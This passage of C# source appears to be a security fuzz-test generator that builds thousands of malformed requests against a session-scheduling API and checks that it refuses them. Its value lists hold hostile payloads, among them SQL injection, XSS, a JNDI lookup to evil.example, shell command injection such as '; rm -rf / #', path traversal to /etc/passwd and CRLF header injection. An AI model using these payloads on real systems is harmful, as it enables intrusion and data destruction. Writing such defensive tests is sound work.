using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;

namespace PreSessions.FunctionalTests.Security;

/// <summary>The known state the fuzz runs against: ids, tokens and keys of things valid requests made.</summary>
public sealed record FuzzScene(
    int Wg, string Sur, string OtherSur, string Room, string OtherRoom, string OperatorToken,
    Registered CsoA, Registered NhriB, Registered CsoC, Registered CsoD, Registered Mission, Registered DecliningMission,
    string ConsoleToken, string OtherRoomConsoleToken, string ConsoleTokenId)
{
    public string PreSession => $"/api/wg-sessions/{Wg}/pre-sessions/{Sur}";
}

/// <summary>
/// One hostile request and what the contract lets it get. <see cref="Allowed"/> are the acceptable statuses; a 4xx must
/// be application/problem+json with status, title and detail, and a 400 must carry an <c>errors</c> object (naming
/// <see cref="Field"/> when set, unless <see cref="ErrorsOptional"/>: a body that is not there at all names no field).
/// A 2xx is allowed only where the request is valid by design (public reads that ignore a token, a page).
/// </summary>
public sealed record FuzzRequest(
    int Number, string Endpoint, string Mutation, string Method, string Url, byte[]? Body, string? ContentType,
    string? Authorization, IReadOnlyList<KeyValuePair<string, string>> Headers, int[] Allowed, string? Field = null,
    bool RawUrl = false, bool ErrorsOptional = false, string? SuccessMediaType = null)
{
    public string Describe()
    {
        var text = new StringBuilder($"#{Number} [{Endpoint} / {Mutation}] {Method} {Url}{(RawUrl ? " (sent as written)" : "")}");
        if (Authorization is not null)
            text.Append($"\n      Authorization: {Shorten(Authorization)}");
        foreach (var (name, value) in Headers)
            text.Append($"\n      {name}: {Shorten(value)}");
        if (Body is not null)
            text.Append($"\n      Content-Type: {ContentType ?? "(none)"}; body ({Body.Length} bytes): {Shorten(Printable(Body))}");
        text.Append($"\n      allowed: {string.Join("/", Allowed)}{(Field is null ? "" : $", errors naming \"{Field}\"")}");
        return text.ToString();
    }

    private static string Printable(byte[] body)
    {
        var text = new StringBuilder();
        foreach (var rune in Encoding.UTF8.GetString(body).EnumerateRunes())
            text.Append(rune.Value is < 0x20 or 0x7f or 0xfffd or 0x202e or 0x200d ? $"\\u{rune.Value:x4}" : rune.ToString());
        return text.ToString();
    }

    private static string Shorten(string text) =>
        (text.Length <= 240 ? text : $"{text[..160]}...({text.Length} chars)...{text[^40..]}")
            .Replace("\r", "\\r").Replace("\n", "\\n").Replace("\0", "\\0");
}

/// <summary>
/// A deterministic generator of at least 2,000 malformed or hostile requests over every endpoint: for a given seed and
/// scene the same list in the same order, so a failure is reproduced by running the test again.
/// </summary>
public sealed partial class FuzzCorpus(FuzzScene scene, int seed)
{
    private const int Bad = 400, Unauthorized = 401, Forbidden = 403, NotFound = 404, Method = 405, Unsupported = 415, HeadersTooLarge = 431;

    private readonly Random _random = new(seed);
    private readonly List<FuzzRequest> _requests = [];

    private static readonly JsonSerializerOptions Relaxed = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    // ---- Hostile values ----------------------------------------------------------------------------------------------

    public static readonly string[] Injections =
    [
        "' OR 1=1 --", "'; DROP TABLE Storage; --", "\" OR \"\"=\"", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "%s%s%s%n", "*)(uid=*))(|(uid=*", "; rm -rf / #", "$(id)", "`id`",
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "file:///etc/passwd", "javascript:alert(1)", "\u0000",
        "1; WAITFOR DELAY '0:0:5'--", "{\"$gt\":\"\"}", "__proto__", "constructor.prototype", "=cmd|' /C calc'!A0",
    ];

    /// <summary>Path segments as they appear in the URL (already escaped where that is the attack).</summary>
    public static readonly string[] HostileSegments =
    [
        "..%2F..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%5C..%5Cwindows%5Cwin.ini", "%252e%252e%252f",
        "....%2F%2F....%2F%2Fetc", "%c0%ae%c0%ae%c0%af", "%00", "abc%00def", "%0D%0ASet-Cookie:%20x=1", "%20", "%09",
        "'%20OR%201=1%20--", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "$%7Bjndi:ldap:%2F%2Fevil%2Fa%7D", "%7B%7B7*7%7D%7D",
        "%F0%9F%87%AB%F0%9F%87%B7", "%E2%80%AE", "%E2%80%8D", "%EF%BB%BF", "%ED%A0%80", "%FF%FE", "-1", "0", "1e3", "NaN",
        "9999999999999999999999", "null", "undefined", "true", "%5B%5D", "%7B%7D", "a;b", "a,b", "*", "~", "%25",
    ];

    /// <summary>Segments HttpClient sends as written only when told to: dot segments that would otherwise be collapsed.</summary>
    public static readonly string[] RawSegments =
    [
        "..", ".", "../..", "../../../etc/passwd", "%2e%2e", "%2e", ".%2e/.%2e/etc", "..;/..;/", "..\\..\\",
    ];

    private static string Long(int length, char c = 'a') => new(c, length);

    // ---- Building blocks --------------------------------------------------------------------------------------------

    private int _number;

    private void Add(string endpoint, string mutation, string method, string url, byte[]? body, string? contentType,
        string? authorization, int[] allowed, string? field = null, IReadOnlyList<KeyValuePair<string, string>>? headers = null,
        bool rawUrl = false, bool errorsOptional = false, string? successMediaType = null) =>
        _requests.Add(new FuzzRequest(++_number, endpoint, mutation, method, url, body, contentType, authorization,
            headers ?? [], allowed, field, rawUrl, errorsOptional, successMediaType));

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static string Str(string value) => JsonSerializer.Serialize(value);

    private static string RawStr(string value) => JsonSerializer.Serialize(value, Relaxed);

    private string Bearer(string token) => "Bearer " + token;

    /// <summary>A JSON object from (key, raw JSON value) pairs, in order, duplicates and all.</summary>
    private static string Object(IEnumerable<(string Key, string Value)> fields) =>
        "{" + string.Join(",", fields.Select(f => $"{Str(f.Key)}:{f.Value}")) + "}";

    private enum Kind { Text, Enum, Sur, Email, Instant, Int, Bool, Themes, Items }

    private sealed record Field(string Name, Kind Kind, string Valid, bool Required, int Max = 0, int Min = 0, string[]? Extra = null);

    /// <summary>An endpoint that reads a JSON body: where, with what token, its fields and a valid body.</summary>
    private sealed record BodyEndpoint(string Name, string Method, string Url, string Token, Field[] Fields, string[]? Headers = null)
    {
        public string Valid => Object(Fields.Select(f => (f.Name, f.Valid)));

        public string With(string name, string value) =>
            Object(Fields.Select(f => (f.Name, f.Name == name ? value : f.Valid)));
    }

    /// <summary>Values that are never valid for a field of this kind, each with the mutation it exercises.</summary>
    private static IEnumerable<(string Mutation, string Json)> Invalid(Field f)
    {
        var wrongTypes = f.Kind switch
        {
            Kind.Int => new[] { "\"60\"", "true", "[]", "{}", "[1]", "60.5", "1e2", "\"\"", "\"NaN\"", "\"Infinity\"" },
            Kind.Bool => ["\"true\"", "1", "0", "\"yes\"", "[]", "{}", "[true]", "\"false\"", "0.0"],
            Kind.Themes => ["\"civic space\"", "5", "true", "{}", "{\"0\":\"a\"}", "[5]", "[true]", "[[\"a\"]]", "[{}]"],
            Kind.Items => ["\"opening\"", "5", "true", "{}", "[5]", "[\"opening\"]", "[[]]", "[true]"],
            _ => ["5", "true", "false", "[]", "{}", "[\"a\"]", "60.5", "-0", "{\"a\":\"b\"}"],
        };
        foreach (var value in wrongTypes)
            yield return ("wrong-type", value);

        if (f.Required)
            yield return ("null", "null");

        switch (f.Kind)
        {
            case Kind.Text:
                yield return ("huge-string", Str(Long(50_000)));
                yield return ("huge-string", Str(Long(f.Max + 1, 'x')));
                yield return ("empty", Str(""));
                yield return ("empty", Str("   \t  "));
                foreach (var control in new[] { "a\u0000b", "line\nbreak", "tab\there", "bell\u0007", "esc\u001b[31m", "del\u007f", "next\u0085line" })
                    yield return ("unicode", Str(control));
                yield return ("unicode", "\"lone \\ud800 surrogate\"");
                yield return ("unicode", "\"lone \\udc00 low surrogate\"");
                yield return ("unicode", "\"reversed \\udc00\\ud800 pair\"");
                yield return ("unicode", RawStr("\u202egnp.exe\u0000"));
                yield return ("unicode", RawStr("👨‍👩‍👧‍👦\u0001"));
                yield return ("unicode", RawStr("Z̵̡̢͇͉a̸̡̛͓l̴̢̛g̷̨̛o̶̧̢\u0002"));
                yield return ("unicode", RawStr(string.Concat(Enumerable.Repeat("🇫🇷", f.Max / 4 + 1))));
                yield return ("unicode", Str(Long(f.Max + 1, '\u200b')));
                yield return ("unicode", RawStr(Long(f.Max + 1, '\ufeff')));
                yield return ("unicode", RawStr(string.Concat(Enumerable.Repeat("e\u0301", f.Max / 2 + 1))));
                foreach (var injection in Injections.Take(8))
                    yield return ("injection", Str(injection + "\u0000"));
                yield return ("injection", Str("Name\r\nX-Injected: true"));
                break;
            case Kind.Enum:
                foreach (var value in new[] { "", "CSO", "Cso", " cso", "ngo", "cso\u0000", "cso\u200d", "ｃｓｏ", "c\u0301so", "opening\u0000", "OPENING", "speaker ", "qa\u200b" })
                    yield return ("unicode", Str(value));
                foreach (var injection in Injections.Take(10))
                    yield return ("injection", Str(injection));
                yield return ("huge-string", Str(Long(50_000)));
                break;
            case Kind.Sur:
                foreach (var value in new[] { "fra", "FR", "FRAN", "ZZZ", "XXX", "FRА", "ＦＲＡ", "FRA\u0000", "F\u0301RA", "🇫🇷", "", "   " })
                    yield return ("unicode", Str(value));
                foreach (var injection in Injections.Take(6))
                    yield return ("injection", Str(injection));
                yield return ("huge-string", Str(Long(50_000, 'A')));
                break;
            case Kind.Email:
                foreach (var value in new[] { "plainaddress", "@no-local.example", "a@b@c", "user@", "a\u0000@example.org", "a@example.org\r\nBcc: victim@example.org", "\ud83d\ude00" })
                    yield return ("unicode", Str(value));
                yield return ("unicode", "\"\\ud800@example.org\"");
                yield return ("huge-string", Str(Long(250) + "@example.org"));
                yield return ("huge-string", Str(Long(50_000)));
                yield return ("injection", Str("<script>alert(1)</script>"));
                yield return ("injection", Str("' OR 1=1 --"));
                break;
            case Kind.Instant:
                foreach (var value in new[]
                {
                    "2017-12-12T10:00:00", "2017-12-12", "10:00", "tomorrow", "2017-13-45T99:99:99+01:00", "2017-12-12T10:00:00+25:00",
                    "0000-00-00T00:00:00Z", "2017-12-12 10:00:00+01:00", "1512000000", "2017-12-12T10:00:00+01:00\u0000",
                    "２０１７-１２-１２T１０:００:００+０１:００", "٢٠١٧-١٢-١٢T١٠:٠٠:٠٠+٠١:٠٠", "2017-12-12T10:00:00.12345678+01:00",
                    "", "2017-12-12T10:00:00+01:00' OR 1=1 --", "${jndi:ldap://evil.example/a}",
                })
                    yield return (value.Any(c => c > 127) ? "unicode" : "injection", Str(value));
                yield return ("huge-number", "1e400");
                yield return ("huge-string", Str("2017-12-12T10:00:00" + Long(50_000, '0') + "+01:00"));
                break;
            case Kind.Int:
                foreach (var value in new[] { "1e400", "-1e400", "9223372036854775808", "-9223372036854775809", "2147483648", "-2147483649", "1e-400", "0.0000001", "1E+2", Long(40, '9'), "1" + Long(5000, '0') })
                    yield return ("huge-number", value);
                foreach (var value in f.Extra ?? [])
                    yield return ("out-of-range", value);
                break;
            case Kind.Bool:
                yield return ("huge-string", Str(Long(50_000)));
                break;
            case Kind.Themes:
                yield return ("null", "[null]");
                yield return ("huge-string", "[" + Str(Long(50_000)) + "]");
                yield return ("out-of-range", "[" + string.Join(",", Enumerable.Range(0, 11).Select(i => Str($"theme {i}"))) + "]");
                yield return ("huge-string", "[" + string.Join(",", Enumerable.Range(0, 5000).Select(_ => "\"t\"")) + "]");
                yield return ("unicode", "[\"\\ud800\"]");
                yield return ("unicode", "[" + Str("a\u0000") + "]");
                yield return ("empty", "[\"\"]");
                break;
            case Kind.Items:
                yield return ("empty", "[]");
                yield return ("null", "[null]");
                yield return ("out-of-range", "[" + string.Join(",", Enumerable.Range(0, 41).Select(_ => "{\"kind\":\"qa\",\"title\":\"Q\",\"allottedSeconds\":60}")) + "]");
                foreach (var item in new[]
                {
                    "{\"kind\":\"teatime\",\"title\":\"T\",\"allottedSeconds\":60}",
                    "{\"kind\":null,\"title\":\"T\",\"allottedSeconds\":60}",
                    "{\"kind\":\"qa\",\"title\":\"T\",\"allottedSeconds\":-1}",
                    "{\"kind\":\"qa\",\"title\":\"T\",\"allottedSeconds\":14401}",
                    "{\"kind\":\"qa\",\"title\":\"T\",\"allottedSeconds\":null}",
                    "{\"kind\":\"qa\",\"title\":null,\"allottedSeconds\":60}",
                    "{\"kind\":\"qa\",\"title\":\"" + Long(201) + "\",\"allottedSeconds\":60}",
                    "{\"kind\":\"qa\",\"title\":\"a\\u0000b\",\"allottedSeconds\":60}",
                    "{\"kind\":\"speaker\",\"allottedSeconds\":60}",
                    "{\"kind\":\"speaker\",\"organisationId\":\"org-' OR 1=1 --\",\"allottedSeconds\":60}",
                    "{\"kind\":\"speaker\",\"organisationId\":\"../../etc/passwd\",\"allottedSeconds\":60}",
                    "{\"kind\":\"${jndi:ldap://evil.example/a}\",\"title\":\"T\",\"allottedSeconds\":60}",
                    "{\"kind\":\"qa\",\"title\":\"T\",\"allottedSeconds\":1e400}",
                    "{\"kind\":\"qa\",\"title\":\"T\",\"allottedSeconds\":\"60\"}",
                    "{\"kind\":5,\"title\":\"T\",\"allottedSeconds\":60}",
                    "{\"kind\":\"qa\",\"kind\":\"qa\",\"title\":\"T\",\"allottedSeconds\":60}",
                })
                    yield return ("nested", "[" + item + "]");
                break;
        }
    }

    private static readonly string[] IdempotencyKeys =
    [
        Long(201, 'k'), "has space", "tab\tkey", "ключ-1", "' OR 1=1 --", "key\u0000", "key\u007f", "émoji-🙂", Long(10_000, 'k'),
        "\u202ekey", "key\u200b",
    ];

    // ---- The corpus ---------------------------------------------------------------------------------------------------

    public List<FuzzRequest> Build()
    {
        var s = scene;
        var op = Bearer(s.OperatorToken);
        var rundownBody = $"[{{\"kind\":\"opening\",\"title\":\"Opening\",\"allottedSeconds\":300}},{{\"kind\":\"speaker\",\"organisationId\":{Str(s.CsoA.Id)},\"allottedSeconds\":360}},{{\"kind\":\"closing\",\"title\":\"Closing\",\"allottedSeconds\":180}}]";

        BodyEndpoint[] bodies =
        [
            new("register", "POST", "/api/organisations", "", [
                new("name", Kind.Text, Str("Fuzz Organisation"), true, 200),
                new("kind", Kind.Enum, Str("cso"), true),
                new("country", Kind.Sur, Str("FRA"), false),
                new("email", Kind.Email, Str("fuzz@example.org"), false)], ["Idempotency-Key"]),
            new("wg-session.put", "PUT", $"/api/wg-sessions/{s.Wg}", op, [
                new("title", Kind.Text, Str("Fuzzed title"), true, 200),
                new("venue", Kind.Text, Str("Fuzzed venue"), true, 200),
                new("provisional", Kind.Bool, "false", true),
                new("applicationsClose", Kind.Instant, Str("2018-01-01T00:00:00+01:00"), false)]),
            new("pre-session.put", "PUT", s.PreSession, op, [
                new("startsAt", Kind.Instant, Str("2017-12-13T10:00:00+01:00"), true),
                new("durationMinutes", Kind.Int, "90", true, Extra: ["14", "241", "0", "-0", "-1", "2147483647", "-2147483648"]),
                new("room", Kind.Text, Str("Fuzzed room"), true, 100),
                new("panelSize", Kind.Int, "5", true, Extra: ["-1", "31", "2147483647", "-2147483648"]),
                new("seats", Kind.Int, "20", true, Extra: ["-1", "1001", "2147483647"])]),
            new("applications.post", "POST", $"{s.PreSession}/applications", Bearer(s.CsoD.Token), [
                new("speakerName", Kind.Text, Str("Fuzz Speaker"), true, 200),
                new("themes", Kind.Themes, "[\"civic space\"]", false),
                new("publishSpeakerName", Kind.Bool, "true", false)], ["Idempotency-Key"]),
            new("rsvps.put", "PUT", $"{s.PreSession}/rsvps/{s.DecliningMission.Id}", Bearer(s.DecliningMission.Token), [
                new("attending", Kind.Bool, "true", true),
                new("delegates", Kind.Int, "2", true, Extra: ["0", "-0", "11", "-1", "2147483647", "-2147483648"])]),
            new("timer.extend", "POST", $"{s.PreSession}/timer/extend", Bearer(s.ConsoleToken), [
                new("seconds", Kind.Int, "60", true, Extra: ["0", "-0", "-601", "3601", "2147483647", "2147483600", "-2147483648"])], ["Idempotency-Key"]),
            new("timer.message.put", "PUT", $"{s.PreSession}/timer/message", Bearer(s.ConsoleToken), [
                new("text", Kind.Text, Str("Fuzzed message"), true, 200)]),
            new("rundown.put", "PUT", $"{s.PreSession}/rundown", op, [
                new("items", Kind.Items, rundownBody, true)]),
        ];

        foreach (var endpoint in bodies)
            BodyMutations(endpoint);
        TimerCommandBodies();
        PathMutations();
        TokenMutations();
        MethodMutations();
        HeaderMutations(bodies);
        QueryMutations();
        RouteMutations();
        InputHardening();
        RandomCombinations(bodies, 300);
        return _requests;
    }

    private void Body(BodyEndpoint e, string mutation, byte[] body, int[] allowed, string? field = null, string? contentType = "application/json", bool errorsOptional = false) =>
        Add(e.Name, mutation, e.Method, e.Url, body, contentType, e.Token is "" ? null : e.Token, allowed, field, errorsOptional: errorsOptional);

    private void BodyMutations(BodyEndpoint e)
    {
        var valid = e.Valid;

        // Broken JSON: truncated at several places, unbalanced, trailing garbage, not JSON's syntax.
        foreach (var cut in new[] { 0, 1, 2, valid.Length / 2, valid.Length - 1 }.Concat(Enumerable.Range(0, 4).Select(_ => _random.Next(1, valid.Length - 1))).Distinct())
            Body(e, "broken-json", Utf8(valid[..cut]), [Bad], errorsOptional: cut == 0);
        foreach (var broken in new[]
        {
            valid + "}", valid + "]", valid + "garbage", valid + ",", valid + valid, "[" + valid, valid.Replace(":", "="), valid.Replace("\"", "'"),
            valid.Replace("\"", ""), valid[..^1] + ",}", "/* comment */" + valid, valid[..^1] + ",\"x\":NaN}", valid[..^1] + ",\"x\":Infinity}",
            valid[..^1] + ",\"x\":undefined}", valid[..^1] + ",\"x\":\"\\x41\"}", valid[..^1] + ",\"x\":\"unterminated}", valid[..^1] + ",\"x\":\"raw\u0001control\"}",
            "\ufeff" + valid[..^1], "{\"a\" \"b\"}", "{,}", "{:}", "\"\"", "'single'", "nul", "tru", "0x10", "{\"__proto__\":{\"admin\":true}", "\u0000",
        })
            Body(e, "broken-json", Utf8(broken), [Bad]);

        // Not an object: every other JSON value at the root.
        foreach (var root in new[] { "[]", "[" + valid + "]", "\"" + valid.Replace("\"", "\\\"") + "\"", "5", "true", "1e400", "-0" })
            Body(e, "wrong-type", Utf8(root), [Bad], "body");
        Body(e, "null", Utf8("null"), [Bad]);
        Body(e, "null", Utf8(Object(e.Fields.Select(f => (f.Name, "null")))), [Bad]);
        Body(e, "empty", [], [Bad], errorsOptional: true);
        Body(e, "empty", Utf8("{}"), [Bad]);
        Body(e, "empty", Utf8("   \r\n\t "), [Bad], errorsOptional: true);

        // Deeply nested JSON, at the root and inside each field.
        Body(e, "deep-nesting", Utf8(Long(10_000, '[')), [Bad]);
        Body(e, "deep-nesting", Utf8(string.Concat(Enumerable.Repeat("{\"a\":", 10_000))), [Bad]);
        Body(e, "deep-nesting", Utf8(Long(5_000, '[') + Long(5_000, ']')), [Bad]);
        Body(e, "deep-nesting", Utf8(string.Concat(Enumerable.Repeat("{\"a\":", 3_000)) + "1" + Long(3_000, '}')), [Bad]);
        foreach (var f in e.Fields)
        {
            Body(e, "deep-nesting", Utf8(e.With(f.Name, Long(3_000, '[') + Long(3_000, ']'))), [Bad]);
            Body(e, "deep-nesting", Utf8(e.With(f.Name, string.Concat(Enumerable.Repeat("{\"a\":", 2_000)) + "1" + Long(2_000, '}'))), [Bad]);
        }

        // Each field: wrong types, null, huge strings and numbers, unicode edge cases, injection, out of range.
        foreach (var f in e.Fields)
            foreach (var (mutation, value) in Invalid(f))
                Body(e, mutation, Utf8(e.With(f.Name, value)), [Bad], FieldOf(f, mutation, value));

        // Duplicate keys, with the same and with another value, and differing only in case.
        foreach (var f in e.Fields)
        {
            Body(e, "duplicate-keys", Utf8(Object(e.Fields.Select(x => (x.Name, x.Valid)).Append((f.Name, f.Valid)))), [Bad], f.Name);
            Body(e, "duplicate-keys", Utf8(Object(e.Fields.Select(x => (x.Name, x.Valid)).Prepend((f.Name, "null")))), [Bad], f.Name);
            // Differing only in case, which the binder matches to the same property: only where an acceptance changes no state.
            if (e.Name == "register")
                Body(e, "duplicate-keys", Utf8(Object(e.Fields.Select(x => (x.Name, x.Valid)).Append((f.Name.ToUpperInvariant(), f.Valid)))), [Bad], f.Name);
        }

        // Raw bytes that are not UTF-8: overlong forms, encoded surrogates, beyond U+10FFFF, stray continuation bytes.
        var text = e.Fields.FirstOrDefault(f => f.Kind is Kind.Text or Kind.Enum) ?? e.Fields[0];
        foreach (var bytes in new byte[][]
        {
            [0xC0, 0xAF], [0xE0, 0x80, 0xAF], [0xC0, 0xAE, 0xC0, 0xAE, 0xC0, 0xAF], [0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80],
            [0xF8, 0x88, 0x80, 0x80, 0x80], [0x80], [0xE2, 0x82], [0xFF, 0xFE], [0xC3, 0x28],
        })
        {
            var (before, after) = Split(e.With(text.Name, "\"@@@\""), "@@@");
            Body(e, "invalid-utf8", [.. Utf8(before), .. bytes, .. Utf8(after)], [Bad]);
        }
        Body(e, "invalid-utf8", Encoding.Unicode.GetBytes(valid), [Bad]);
        Body(e, "invalid-utf8", [0xFE, 0xFF, .. Encoding.BigEndianUnicode.GetBytes(valid)], [Bad]);

        // The valid body as something else than JSON.
        foreach (var type in new[]
        {
            "text/plain", "text/plain; charset=utf-8", "application/xml", "text/xml", "text/json", "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=fuzz", "application/octet-stream", "application/javascript", "image/png", "application/jsonp",
            "application/json-x", "*/*", "json", "application/", "; charset=utf-8",
        })
            Body(e, "content-type", Utf8(valid), [Unsupported], contentType: type);
        Body(e, "content-type", Utf8(valid), [Unsupported], contentType: null);
        Body(e, "content-type", Utf8("<organisation><name>x</name></organisation>"), [Unsupported], contentType: "application/xml");
        Body(e, "content-type", Utf8("name=x&kind=cso"), [Unsupported], contentType: "application/x-www-form-urlencoded");
        Body(e, "content-type", Utf8("--fuzz\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nx\r\n--fuzz--\r\n"), [Unsupported], contentType: "multipart/form-data; boundary=fuzz");
        // Declared JSON in an odd charset, with a body that is invalid however it is read.
        foreach (var charset in new[] { "utf-16", "utf-32", "utf-7", "bogus", "iso-8859-1", "\"utf-8\"" })
            Body(e, "content-type", Utf8(Object(e.Fields.Select(f => (f.Name, "null")))), [Bad, Unsupported], contentType: $"application/json; charset={charset}", errorsOptional: true);
    }

    /// <summary>The field a 400 must name: the mutated field (a JSON error names where the reader stopped).</summary>
    private static string? FieldOf(Field f, string mutation, string value) => f.Kind switch
    {
        Kind.Items when mutation == "nested" => null,
        Kind.Themes or Kind.Items => f.Name,
        _ => f.Name,
    };

    private static (string, string) Split(string text, string marker)
    {
        var at = text.IndexOf(marker, StringComparison.Ordinal);
        return (text[..at], text[(at + marker.Length)..]);
    }

    /// <summary>
    /// Timer commands other than extend take no body: any body they get must be refused before the command runs, so only
    /// bodies that cannot be read (or are not JSON) are sent, and with a bad Idempotency-Key nothing runs either.
    /// </summary>
    private void TimerCommandBodies()
    {
        foreach (var command in new[] { "start", "pause", "resume", "next", "previous", "end" })
        {
            var url = $"{scene.PreSession}/timer/{command}";
            var endpoint = "timer." + command;
            var console = Bearer(scene.ConsoleToken);
            foreach (var broken in new[] { "{", "{\"seconds\":", "{\"seconds\":\"60\"}", "{\"seconds\":1e400}", "{\"seconds\":1,\"seconds\":2}", "[", Long(10_000, '['), "garbage", "{\"seconds\":60}}", "\"\\ud800\"" })
                Add(endpoint, broken.StartsWith("[[[") ? "deep-nesting" : broken.Contains("seconds\":1,") ? "duplicate-keys" : "broken-json", "POST", url, Utf8(broken), "application/json", console, [Bad]);
            // Invalid UTF-8 where the reader must decode it (an unknown key is skipped undecoded, and these commands ignore unknown keys).
            Add(endpoint, "invalid-utf8", "POST", url, [.. Utf8("{\"seconds\":\""), 0xC0, 0xAF, .. Utf8("\"}")], "application/json", console, [Bad]);
            foreach (var type in new[] { "text/plain", "application/xml", "multipart/form-data; boundary=x" })
                Add(endpoint, "content-type", "POST", url, Utf8("{\"seconds\":60}"), type, console, [Unsupported]);
            foreach (var key in IdempotencyKeys.Take(6))
                Add(endpoint, "idempotency-key", "POST", url, null, null, console, [Bad], "Idempotency-Key", [new("Idempotency-Key", key)]);
        }
    }

    // ---- Paths ----------------------------------------------------------------------------------------------------

    /// <summary>A route with its parameters; a template with {wg}, {sur}, {org}, {room}, {command}, {tokenId}, {file}, {page}.</summary>
    private sealed record Route(string Name, string Method, string Template, string? Token, string? Body = null, bool Stream = false, string? SuccessMediaType = null);

    private IEnumerable<Route> Routes()
    {
        var s = scene;
        var op = s.OperatorToken;
        yield return new("organisations.get", "GET", "/api/organisations/{org}", s.CsoA.Token);
        yield return new("organisations.token.post", "POST", "/api/organisations/{org}/token", op);
        yield return new("organisations.token.delete", "DELETE", "/api/organisations/{org}/token", op);
        yield return new("wg-session.get", "GET", "/api/wg-sessions/{wg}", null);
        yield return new("wg-session.put", "PUT", "/api/wg-sessions/{wg}", op, "{\"title\":\"T\",\"venue\":\"V\",\"provisional\":true}");
        yield return new("schedule.ics", "GET", "/api/wg-sessions/{wg}/schedule.ics", null);
        yield return new("wg-time-report", "GET", "/api/wg-sessions/{wg}/time-report", op);
        yield return new("pre-session.get", "GET", "/api/wg-sessions/{wg}/pre-sessions/{sur}", null);
        yield return new("pre-session.put", "PUT", "/api/wg-sessions/{wg}/pre-sessions/{sur}", op,
            "{\"startsAt\":\"2017-12-14T10:00:00+01:00\",\"durationMinutes\":60,\"room\":\"Fuzz\",\"panelSize\":3,\"seats\":5}");
        yield return new("applications.post", "POST", "/api/wg-sessions/{wg}/pre-sessions/{sur}/applications", s.CsoD.Token, "{\"speakerName\":\"S\",\"themes\":[]}");
        yield return new("applications.delete", "DELETE", "/api/wg-sessions/{wg}/pre-sessions/{sur}/applications/{org}", op);
        yield return new("rsvps.put", "PUT", "/api/wg-sessions/{wg}/pre-sessions/{sur}/rsvps/{org}", s.Mission.Token, "{\"attending\":true,\"delegates\":1}");
        yield return new("timer.get", "GET", "/api/wg-sessions/{wg}/pre-sessions/{sur}/timer", null);
        yield return new("timer.command", "POST", "/api/wg-sessions/{wg}/pre-sessions/{sur}/timer/{command}", s.ConsoleToken);
        yield return new("timer.message.put", "PUT", "/api/wg-sessions/{wg}/pre-sessions/{sur}/timer/message", s.ConsoleToken, "{\"text\":\"Hello\"}");
        yield return new("timer.message.delete", "DELETE", "/api/wg-sessions/{wg}/pre-sessions/{sur}/timer/message", s.ConsoleToken);
        yield return new("timer.events", "GET", "/api/wg-sessions/{wg}/pre-sessions/{sur}/timer/events", null, Stream: true);
        yield return new("rundown.get", "GET", "/api/wg-sessions/{wg}/pre-sessions/{sur}/rundown", null);
        yield return new("rundown.put", "PUT", "/api/wg-sessions/{wg}/pre-sessions/{sur}/rundown", op, "{\"items\":[{\"kind\":\"qa\",\"title\":\"Q\",\"allottedSeconds\":60}]}");
        yield return new("rundown.delete", "DELETE", "/api/wg-sessions/{wg}/pre-sessions/{sur}/rundown", op);
        yield return new("time-report", "GET", "/api/wg-sessions/{wg}/pre-sessions/{sur}/time-report", op);
        yield return new("time-report.csv", "GET", "/api/wg-sessions/{wg}/pre-sessions/{sur}/time-report.csv", op);
        yield return new("rooms.get", "GET", "/api/rooms/{room}", null);
        yield return new("console-tokens.post", "POST", "/api/rooms/{room}/console-tokens", op);
        yield return new("console-tokens.get", "GET", "/api/rooms/{room}/console-tokens", op);
        yield return new("console-tokens.delete", "DELETE", "/api/rooms/{room}/console-tokens/{tokenId}", op);
        yield return new("rooms.events", "GET", "/api/rooms/{room}/events", null, Stream: true);
        yield return new("states.get", "GET", "/api/states/{sur}", null);
        yield return new("rooms.page", "GET", "/rooms/{room}/{page}", null, SuccessMediaType: "text/html");
        yield return new("rooms.assets", "GET", "/rooms/assets/{file}", null);
    }

    private string Fill(string template, string? wg = null, string? sur = null, string? org = null, string? room = null,
        string? command = null, string? tokenId = null, string? file = null, string? page = null) => template
        .Replace("{wg}", wg ?? scene.Wg.ToString())
        .Replace("{sur}", sur ?? scene.Sur)
        .Replace("{org}", org ?? scene.CsoA.Id)
        .Replace("{room}", room ?? Uri.EscapeDataString(scene.Room))
        .Replace("{command}", command ?? "pause")
        .Replace("{tokenId}", tokenId ?? "ct-unknown")
        .Replace("{file}", file ?? "console.js")
        .Replace("{page}", page ?? "console");

    private void Path(Route r, string parameter, string value, int[] allowed, string? field, bool raw = false, string mutation = "path")
    {
        // A NUL in the path never reaches the gateway: Kestrel refuses the request line, and the in-process TestServer throws.
        if (value.Contains("%00", StringComparison.Ordinal))
            return;
        // A key with a line break at its end: the formats' "$" matches before a final "\n", so on a write it could name a real
        // resource. Sent only where nothing can change (reads, refused roles) and to keys nobody uses.
        if (value.EndsWith("%0A", StringComparison.Ordinal) && r.Method != "GET" && parameter is "wg" or "sur")
            return;
        var url = parameter switch
        {
            "wg" => Fill(r.Template, wg: value),
            "sur" => Fill(r.Template, sur: value),
            "org" => Fill(r.Template, org: value),
            "room" => Fill(r.Template, room: value),
            "command" => Fill(r.Template, command: value),
            "tokenId" => Fill(r.Template, tokenId: value),
            "file" => Fill(r.Template, file: value),
            _ => Fill(r.Template, page: value),
        };
        Add(r.Name, mutation, r.Method, url, r.Body is null ? null : Utf8(r.Body), r.Body is null ? null : "application/json",
            r.Token is null ? null : Bearer(r.Token), allowed, field, rawUrl: raw, successMediaType: r.SuccessMediaType);
    }

    private void PathMutations()
    {
        string[] badWg = ["0", "1000", "-1", "+1", "1.0", "1e2", "0x1F", "twenty-nine", "XXIX", "２９", "٢٩", "²⁹", "%201", "1%0A", "1%0D%0A", "9999999999999999999999999", Long(5000, '9')];
        string[] badSur = ["fra", "Fra", "FR", "FRAN", "F%20A", "FR%C3%80", "%D0%A4RA", "%EF%BC%A6%EF%BC%B2%EF%BC%A1", "F%CC%81RA", "FRA%0A", "FRA%0D", "123", "F_A"];
